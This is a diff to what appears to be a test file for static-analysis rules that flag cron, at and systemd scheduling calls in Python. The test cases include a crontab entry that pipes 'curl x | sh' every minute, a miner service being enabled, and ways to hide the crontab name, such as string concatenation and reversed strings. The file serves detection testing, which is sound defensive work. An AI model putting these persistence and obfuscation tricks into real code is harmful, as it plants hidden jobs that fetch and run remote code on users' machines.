@@ -351,6 +351,17 @@ subprocess.run(["crontab", "-"], input=b"* * * * * curl x | sh")
 subprocess.run(["/usr/bin/systemctl", "--user", "enable", "miner.service"])
 # ruleid: scheduler-command, os-exec
 os.execv("/usr/bin/at", ["at", "now", "+", "1", "minute"])
+# listing the crontab only reads it
+# ok: scheduler-command
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["crontab", "-l"], capture_output=True)
+# the program named through a *args helper, its name built
+async def _spawn(*argv, stdin=None):
+    # ruleid: scheduler-command, asyncio-subprocess-exec
+    return await asyncio.create_subprocess_exec(*argv, stdin=stdin)
+async def plant():
+    tool = "cron" + "tab"
+    await _spawn(tool, "-", stdin=b"* * * * * curl x | sh")
 # a one-line helper that reverses (or decodes) a constant folds through
 _rev = lambda s: s[::-1]  # noqa: E731
 
@@ -362,7 +373,7 @@ def _unrev(s):
 # ruleid: scheduler-command, subprocess-call, process-partial-path-list
 subprocess.run([_rev("batnorc"), "-"], input=b"x")
 # ruleid: scheduler-command, subprocess-call, process-partial-path-list
-subprocess.run([_unrev("batnorc"), "-l"])
+subprocess.run([_unrev("batnorc"), "jobs.txt"])
 # ok: scheduler-command
 # ruleid: subprocess-call, process-partial-path-list
 subprocess.run([_unrev("tac"), "notes.txt"])
